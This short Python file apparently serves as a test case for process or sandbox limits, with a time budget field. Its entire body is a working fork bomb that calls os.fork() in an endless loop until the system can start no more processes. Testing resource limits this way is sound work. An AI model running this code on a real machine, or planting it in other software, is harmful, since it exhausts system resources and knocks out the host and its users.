"""Starts processes until there can be no more.

seconds: 8
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
